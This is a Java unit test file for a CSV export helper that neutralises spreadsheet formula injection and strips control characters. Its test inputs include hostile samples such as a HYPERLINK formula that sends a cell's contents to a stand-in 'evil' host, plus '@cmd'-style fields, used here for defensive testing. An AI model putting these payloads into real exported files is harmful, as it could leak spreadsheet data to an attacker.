package vn.loaxa.base;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.io.StringWriter;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.api.Test;

/**
 * Every field of every line the station writes: quoted, no formula where Excel could start a cell
 * (comma, semicolon or tab separated), no control characters; read back by Commons CSV as written.
 */
class CsvTest {

    @ParameterizedTest(name = "[{index}] {0}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            =1+1                                  | '=1+1
            +1                                    | '+1
            -2+3                                  | '-2+3
            @SUM(A1:A9)                           | '@SUM(A1:A9)
            `  =1`                                | `'  =1`
            `x;=HYPERLINK("http://evil","bấm")`  | `x;'=HYPERLINK("http://evil","bấm")`
            x,=1                                  | x,'=1
            `x, @cmd`                             | `x,' @cmd`
            a;;=1                                 | a;;'=1
            `a,"=1"`                              | `a,'"=1"`
            ＝1+1                                  | '＝1+1
            Bản tin - Cải cách hành chính          | Bản tin - Cải cách hành chính
            Thôn 1, Thôn 2, Thôn 3                | Thôn 1, Thôn 2, Thôn 3
            LATE_TRIGGER: 15 s late, grace 8 s    | LATE_TRIGGER: 15 s late, grace 8 s
            02/03/2027 05:30:00                   | 02/03/2027 05:30:00
            a'=b                                  | a'=b
            """)
    void a_formula_is_neutralised_wherever_excel_could_start_a_cell(String field, String expected) {
        assertThat(Csv.cell(field)).isEqualTo(expected);
    }

    @Test
    void tab_cr_and_line_breaks_start_a_cell_too() {
        assertThat(Csv.cell("\t=1")).isEqualTo("'\t'=1");
        assertThat(Csv.cell("\rabc")).isEqualTo("'\rabc");
        assertThat(Csv.cell("Dòng 1\n=2")).isEqualTo("Dòng 1\n'=2");
        assertThat(Csv.cell("a\r\n-1")).isEqualTo("a\r\n'-1");
        assertThat(Csv.cell("")).isEmpty();
        assertThat(Csv.cell(null)).isEmpty();
    }

    @Test
    void nul_esc_and_other_controls_are_removed_before_the_formula_check() {
        assertThat(Csv.cell("a\u0000b\u001B[31mđỏ\u001B[0m\u0007")).isEqualTo("ab[31mđỏ[0m");
        assertThat(Csv.cell("\u0000=1")).isEqualTo("'=1");
        assertThat(Csv.cell("x\u007F\u0085\u009By")).isEqualTo("xy");
        // Tab, CR and LF stay inside the quoted cell.
        assertThat(Csv.cell("a\tb\r\nc")).isEqualTo("a\tb\r\nc");
    }

    @Test
    void every_field_is_quoted_and_lines_end_in_crlf() throws Exception {
        var w = new StringWriter();
        Csv.line(w, "Tiêu đề", "", "12", "có \"ngoặc\"");
        assertThat(w.toString()).isEqualTo("\"Tiêu đề\",\"\",\"12\",\"có \"\"ngoặc\"\"\"\r\n");
    }

    @Test
    void the_issue_line_reads_back_as_text_in_a_comma_reader_and_in_a_semicolon_excel() throws Exception {
        var hostile = "x;=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")";
        var w = new StringWriter();
        Csv.line(w, "Phát xong", hostile, "\u0000@evil\u001B");
        var text = w.toString();

        var records = CSVFormat.EXCEL.parse(new StringReader(text)).getRecords();
        assertThat(records).hasSize(1);
        assertThat(records.getFirst().values()).containsExactly("Phát xong",
                "x;'=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")", "'@evil");
        assertThat(text).doesNotContain("\u0000", "\u001B");
        assertNoCellCanStartAFormula(text);
    }

    /**
     * Hostile fields drawn from an alphabet of separators, quotes, spaces, formula characters and
     * controls: each line reads back (comma reader) as exactly its cells, and no split that Excel
     * could make (comma, semicolon, tab, line break, quotes honoured or not) leaves a formula.
     */
    @Test
    void random_hostile_fields_read_back_and_never_start_a_formula() throws Exception {
        var alphabet = "=+-@,;\t\r\n \"'ab1đ\u0000\u001B\u0007\uFF1D\u00A0|";
        var random = new Random(11);
        for (int n = 0; n < 5_000; n++) {
            var fields = new String[1 + random.nextInt(4)];
            for (int f = 0; f < fields.length; f++) {
                var s = new StringBuilder();
                for (int i = random.nextInt(12); i > 0; i--) {
                    s.append(alphabet.charAt(random.nextInt(alphabet.length())));
                }
                fields[f] = s.toString();
            }
            var w = new StringWriter();
            Csv.line(w, fields);
            var text = w.toString();
            List<CSVRecord> records = CSVFormat.EXCEL.parse(new StringReader(text)).getRecords();
            assertThat(records).as(text).hasSize(1);
            var expected = new ArrayList<String>();
            for (var f : fields) {
                // As line() writes it: first cut to the length every export keeps, then made safe.
                expected.add(Csv.cell(Clip.text(f)));
            }
            assertThat(records.getFirst().values()).as(text).containsExactlyElementsOf(expected);
            for (int f = 0; f < fields.length; f++) {
                // Only controls removed and ' marks added: nothing of the person's text is lost.
                var kept = fields[f].replaceAll("[\\x00-\\x08\\x0B\\x0C\\x0E-\\x1F\\x7F-\\x9F]", "");
                assertThat(expected.get(f).replace("'", "")).isEqualTo(kept.replace("'", ""));
            }
            assertThat(text).doesNotContainPattern("[\\x00-\\x08\\x0B\\x0C\\x0E-\\x1F\\x7F]");
            assertNoCellCanStartAFormula(text);
        }
    }

    /** At the line's start and after any separator, spaces and quotes skipped, no formula character follows. */
    private static void assertNoCellCanStartAFormula(String line) {
        for (int i = 0; i < line.length(); i++) {
            if (i > 0 && ",;\t\r\n".indexOf(line.charAt(i - 1)) < 0) {
                continue;
            }
            int j = i;
            while (j < line.length() && " \u00A0\u3000\"".indexOf(line.charAt(j)) >= 0) {
                j++;
            }
            if (j < line.length()) {
                assertThat("=+-@\uFF1D\uFF0B\uFF0D\uFF20".indexOf(line.charAt(j))).as("cell at %d of %s", i, line)
                        .isNegative();
            }
        }
    }
}
